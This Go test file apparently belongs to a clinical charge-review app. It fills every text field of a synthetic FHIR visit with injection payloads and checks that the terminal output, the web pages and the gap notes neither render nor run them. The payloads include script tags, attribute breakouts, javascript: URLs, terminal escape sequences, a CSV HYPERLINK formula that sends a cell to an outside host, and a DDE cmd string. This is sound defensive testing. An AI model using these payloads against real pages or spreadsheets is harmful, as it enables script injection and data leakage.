package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"

	"golang.org/x/net/html"

	"github.com/chargenote/chargenote/fhir"
	"github.com/chargenote/chargenote/internal/journal"
	"github.com/chargenote/chargenote/internal/review"
	"github.com/chargenote/chargenote/internal/web"
	"github.com/chargenote/chargenote/smart"
)

// payloads are texts that a careless page, spreadsheet or terminal would act on.
var payloads = map[string]string{
	"script":             `<script>alert("Canary")</script>`,
	"end of attribute":   `"><img src=x onerror=Canary()>`,
	"in quotes":          `' onmouseover='Canary()`,
	"end of elements":    `</title></textarea></style></svg><svg onload=Canary()>`,
	"address":            `javascript:Canary()`,
	"entities":           `&lt;b&gt;Canary&#x22;&#60;script&#62;`,
	"comment":            `--><!--Canary--><![CDATA[`,
	"template":           `{{.}}{{template "Canary"}}`,
	"CSV formula":        `=HYPERLINK("https://elsewhere.example/?"&A1,"Canary")`,
	"CSV command":        `@SUM(1+1)*cmd|' /C Canary'!A0`,
	"escape sequence":    "\x1b[2J\x1b]0;Canary\x07",
	"one-byte sequence":  "\u009b31mCanary\u0085",
	"bidi override":      "\u202eCanary\u202c\u2066\u061c",
	"lines":              "Canary\nSession: known\n\r\nx\u2028y",
	"null and backspace": "Can\x00ary\x08\x7f",
}

// hostileVisit is a visit with a payload in every text that an EHR may print, by type of resource.
func hostileVisit(payload string) map[string][]string {
	p := jsonText(payload)
	note := strings.ReplaceAll("Progress note\nPAYLOAD\nStart 14:00. Stop 14:47. CBT for PAYLOAD. Appearance PAYLOAD. Mood PAYLOAD. Plan: PAYLOAD. The session ran long PAYLOAD.", "PAYLOAD", payload)
	concept := func(system, code string) string {
		return fmt.Sprintf(`{"coding":[{"system":%q,"code":%q,"display":%[3]s},{"system":"https://ehr.example/codes","code":%[3]s,"display":%[3]s}],"text":%[3]s}`, system, code, p)
	}
	of := `"subject":{"reference":"Patient/p1","display":` + p + `},"encounter":{"reference":"Encounter/e1","display":` + p + `}`
	all := map[string][]string{}
	add := func(kind string, members ...string) {
		all[kind] = append(all[kind], fmt.Sprintf(`{"resourceType":%q,"text":{"status":"generated","div":%s},%s}`, kind, p, strings.Join(members, ",")))
	}
	add("Patient", `"id":"p1","birthDate":"1984-04-02"`, `"name":[{"text":`+p+`,"family":`+p+`,"given":[`+p+`]}]`,
		`"identifier":[{"type":{"coding":[{"system":"http://terminology.hl7.org/CodeSystem/v2-0203","code":"MR"}]},"value":`+p+`}]`)
	add("Encounter", `"id":"e1","status":"finished","class":{"system":"http://terminology.hl7.org/CodeSystem/v3-ActCode","code":"AMB","display":`+p+`}`,
		`"type":[`+concept("https://ehr.example/visits", "1")+`],"serviceType":`+concept("https://ehr.example/visits", "2")+`,"reasonCode":[`+concept("https://ehr.example/reasons", "3")+`]`,
		`"subject":{"reference":"Patient/p1","display":`+p+`},"participant":[{"individual":{"reference":"Practitioner/d1","display":`+p+`}}]`,
		`"location":[{"location":{"reference":"Location/l1","display":`+p+`}}],"diagnosis":[{"condition":{"reference":"Condition/c1","display":`+p+`}}]`,
		`"period":{"start":"2025-03-10T14:00:00-05:00","end":"2025-03-10T14:47:00-05:00"}`)
	add("Practitioner", `"id":"d1","name":[{"text":`+p+`}],"qualification":[{"code":`+concept("http://nucc.org/provider-taxonomy", "1041C0700X")+`}]`)
	add("Location", `"id":"l1","status":"active","name":`+p)
	add("Condition", `"id":"c1","code":`+concept("http://hl7.org/fhir/sid/icd-10-cm", "F41.1"), of)
	add("Procedure", `"id":"s1","status":"completed","code":`+concept("http://snomed.info/sct", "75516001"), of,
		`"performer":[{"actor":{"reference":"Practitioner/d1","display":`+p+`}}],"performedPeriod":{"start":"2025-03-10T14:00:00-05:00","end":"2025-03-10T14:47:00-05:00"}`)
	add("Procedure", `"id":"s2","status":"completed","code":{"text":`+p+`}`, of)
	add("Observation", `"id":"o1","status":"final","code":`+concept("http://loinc.org", "44261-6"), of, `"effectiveDateTime":"2025-03-10T14:02:00-05:00","valueString":`+p)
	add("Observation", `"id":"o2","status":"final","code":`+concept("http://loinc.org", "70274-6"), of, `"effectiveDateTime":"2025-03-10T14:02:00-05:00","valueQuantity":{"value":9,"unit":`+p+`}`)
	add("Coverage", `"id":"v1","status":"active","type":`+concept("https://nahdo.org/sopt", "512"), `"beneficiary":{"reference":"Patient/p1"},"payor":[{"display":`+p+`}]`)
	add("QuestionnaireResponse", `"id":"q1","status":"completed","authored":"2025-03-10T13:40:00-05:00"`, of, `"item":[{"linkId":`+p+`,"text":`+p+`,"answer":[{"valueString":`+p+`}]}]`)
	add("DocumentReference", `"id":"n1","status":"current","type":`+concept("http://loinc.org", "11506-3"), `"subject":{"reference":"Patient/p1"},"description":`+p,
		`"content":[{"attachment":{"contentType":"text/plain; charset=utf-8","title":`+p+`,"data":`+jsonText([]byte(note))+`}}],"context":{"encounter":[{"reference":"Encounter/e1"}]}`)
	add("ChargeItem", `"id":"h1","status":"billable","code":`+concept("http://www.ama-assn.org/go/cpt", "96127"), `"subject":{"reference":"Patient/p1"},"context":{"reference":"Encounter/e1"},"quantity":{"value":1,"unit":`+p+`}`)
	return all
}

// jsonText is a text, or bytes in base64, as JSON writes them.
func jsonText(value any) string {
	data, err := json.Marshal(value)
	if err != nil {
		panic(err)
	}
	return string(data)
}

func hostileBundle(visit map[string][]string) []byte {
	var entries []string
	for _, resources := range visit {
		for _, resource := range resources {
			entries = append(entries, `{"resource":`+resource+`}`)
		}
	}
	return []byte(`{"resourceType":"Bundle","type":"searchset","entry":[` + strings.Join(entries, ",") + `]}`)
}

// Text for a person holds nothing of a record that acts on a terminal, and its lines are ours; JSON says
// the same whatever the record holds.
func TestPayloadsOnATerminal(t *testing.T) {
	service, err := review.New()
	if err != nil {
		t.Fatal(err)
	}
	printed := func(payload, format string) string {
		record, err := fhir.ReadBundle(hostileBundle(hostileVisit(payload)), fhir.DefaultLimits())
		if err != nil {
			t.Fatal(err)
		}
		read, err := record.Visit(fhir.Options{Rules: service.Codes})
		if err != nil {
			t.Fatal(err)
		}
		result, err := service.Of(read)
		if err != nil {
			t.Fatal(err)
		}
		var out bytes.Buffer
		if err := (output{format}).print(terminal{out: &out, isTTY: true}, result, func(p *page) { reviewText(p, result) }); err != nil {
			t.Fatal(err)
		}
		return out.String()
	}
	shown := 0
	for name, payload := range payloads {
		text := printed(payload, "text")
		if at := strings.IndexFunc(text, actsOnTerminal); at >= 0 {
			t.Errorf("%s: the text holds %q: %q", name, text[at:at+1], text[max(0, at-60):min(len(text), at+60)])
		}
		if got := strings.Count(text, "\nSession: known\n"); got != 1 {
			t.Errorf("%s: the text says %d times on a line of its own that the session is known, want once", name, got)
		}
		if strings.Contains(text, "Canary") {
			shown++
		}
		var review map[string]any
		if err := json.Unmarshal([]byte(printed(payload, "json")), &review); err != nil || review["encounter"] != "Encounter/e1" {
			t.Errorf("%s: the JSON is of %v: %v", name, review["encounter"], err)
		}
	}
	if shown == 0 {
		t.Error("no text shows anything of a payload: the test looks at the wrong place")
	}
}

// actsOnTerminal is worked out apart from docs.Legible: what Unicode calls a control or a format, but for
// the line end, the joiners and the soft hyphen.
func actsOnTerminal(r rune) bool {
	return r != '\n' && r != '\u200c' && r != '\u200d' && r != '\u00ad' && (unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp))
}

// openLaunch is a launch that stands open for everybody.
type openLaunch struct{ launch *smart.Launch }

func (openLaunch) Start(http.ResponseWriter, *http.Request) error    { return errors.ErrUnsupported }
func (openLaunch) Continue(http.ResponseWriter, *http.Request) error { return errors.ErrUnsupported }
func (openLaunch) Callback(http.ResponseWriter, *http.Request, string) (string, error) {
	return "", errors.ErrUnsupported
}
func (l openLaunch) Launch(*http.Request, string) (*smart.Launch, error)   { return l.launch, nil }
func (openLaunch) End(context.Context, http.ResponseWriter, *smart.Launch) {}
func (openLaunch) FrameAncestors(*http.Request) []string                   { return nil }
func (openLaunch) Style(context.Context, *smart.Launch) ([]byte, error) {
	return nil, errors.ErrUnsupported
}

// hostilePages are the pages of a review over a server whose record has a payload in every text: the
// visit, the choice of visits and the preview of a filing.
func hostilePages(t *testing.T, service *review.Service, payload string) map[string]string {
	t.Helper()
	record := hostileVisit(payload)
	ehr := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/fhir+json")
		kind, id, one := strings.Cut(strings.Trim(r.URL.Path, "/"), "/")
		at := slices.IndexFunc(record[kind], func(resource string) bool { return strings.Contains(resource, `"id":"`+id+`"`) })
		if one && at >= 0 {
			fmt.Fprint(w, record[kind][at])
			return
		}
		w.Write(hostileBundle(map[string][]string{kind: record[kind]}))
	}))
	defer ehr.Close()
	chart := fhir.NewChart(fhir.ChartOptions{Client: fhir.NewClient(ehr.URL, nil), Patient: "p1", Encounter: "e1", User: "Practitioner/d1", Tenant: "clinic", Issuer: ehr.URL})
	launch := &smart.Launch{ID: "A", Issuer: &smart.Issuer{Key: "ehr"}, ISS: ehr.URL, Patient: "p1", Encounter: "e1", User: "Practitioner/d1", NeedPatientBanner: true,
		Scopes: []string{"user/ChargeItem.crs", "user/DocumentReference.crs", "user/Provenance.c"}}
	filings, err := journal.Open(t.Context(), journal.Config{}, journal.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = filings.Close(context.Background()) }()
	server, err := web.New(web.Options{Launches: openLaunch{launch}, Reviews: service, BaseURL: "https://chargenote.example", Filings: filings,
		Open: func(*smart.Launch) (web.Chart, error) { return chart, nil }})
	if err != nil {
		t.Fatal(err)
	}
	ask := func(method, path string, form url.Values) string {
		r := httptest.NewRequest(method, "https://chargenote.example"+path, strings.NewReader(form.Encode()))
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		r.Header.Set("Sec-Fetch-Site", "same-origin")
		answer := httptest.NewRecorder()
		server.ServeHTTP(answer, r)
		if answer.Code != http.StatusOK {
			t.Fatalf("%s answers %d: %s", path, answer.Code, answer.Body)
		}
		return answer.Body.String()
	}
	pages := map[string]string{"visit": ask(http.MethodGet, "/visit/A", nil)}
	form := url.Values{}
	for _, offer := range regexp.MustCompile(`name="offer" value="([^"]+)"`).FindAllStringSubmatch(pages["visit"], -1) {
		form.Add("offer", offer[1])
	}
	pages["preview"] = ask(http.MethodPost, "/visit/A/preview", form)
	launch.Encounter = ""
	pages["encounters"] = ask(http.MethodGet, "/visit/A", nil)
	return pages
}

// No text of a record becomes markup: no page has an element, or an attribute, that it does not have with
// a harmless text, nothing runs, and no address is but ours. How many there are of each may differ, for
// the payload stands in the note too, and the note is read.
func TestPayloadsOnThePages(t *testing.T) {
	service, err := review.New()
	if err != nil {
		t.Fatal(err)
	}
	harmless := map[string]map[string]bool{}
	for name, page := range hostilePages(t, service, "Canary") {
		if !strings.Contains(page, "Canary") {
			t.Errorf("%s shows nothing of the record: the test looks at the wrong place", name)
		}
		harmless[name] = elements(t, page)
	}
	for name, payload := range payloads {
		for page, content := range hostilePages(t, service, payload) {
			for element := range elements(t, content) {
				if !harmless[page][element] {
					t.Errorf("%s: the page %s has %s, and has it not with a harmless text", name, page, element)
				}
			}
			if strings.ContainsAny(payload, `<>"'`) && strings.Contains(content, payload) {
				t.Errorf("%s: the page %s holds it as it is", name, page)
			}
		}
	}
}

// elements are the kinds of element of a page, with the names of their attributes and what decides where
// they lead and how they look.
func elements(t *testing.T, content string) map[string]bool {
	t.Helper()
	root, err := html.Parse(strings.NewReader(content))
	if err != nil {
		t.Fatal(err)
	}
	found := map[string]bool{}
	for n := range root.Descendants() {
		if n.Type == html.CommentNode {
			t.Errorf("there is a comment: %q", n.Data)
		}
		if n.Type != html.ElementNode {
			continue
		}
		element := "<" + n.Data
		for _, a := range n.Attr {
			element += " " + a.Key
			if slices.Contains([]string{"href", "src", "action", "class", "type", "style"}, a.Key) {
				element += fmt.Sprintf("=%q", a.Val)
			}
		}
		found[element+">"] = true
	}
	return found
}

// A gap note is filed as plain text: what it quotes of the clinician's note acts nowhere.
func TestPayloadsInAGapNote(t *testing.T) {
	service, err := review.New()
	if err != nil {
		t.Fatal(err)
	}
	for name, payload := range payloads {
		record, err := fhir.ReadBundle(hostileBundle(hostileVisit(payload)), fhir.DefaultLimits())
		if err != nil {
			t.Fatal(err)
		}
		read, err := record.Visit(fhir.Options{Rules: service.Codes})
		if err != nil {
			t.Fatal(err)
		}
		r, err := service.Of(read)
		if err != nil {
			t.Fatal(err)
		}
		var offers []string
		for _, offer := range r.Offers() {
			offers = append(offers, offer.ID)
		}
		filing, err := service.Filing(r, review.Confirmation{Offers: offers, User: "Practitioner/d1"})
		if err != nil {
			t.Fatal(err)
		}
		if !strings.HasPrefix(filing.GapNote, "Automated checklist") {
			t.Errorf("%s: the gap note begins %.40q", name, filing.GapNote)
		}
		if at := strings.IndexFunc(filing.GapNote, actsOnTerminal); at >= 0 {
			t.Errorf("%s: the gap note holds %q", name, filing.GapNote[max(0, at-40):min(len(filing.GapNote), at+40)])
		}
	}
}
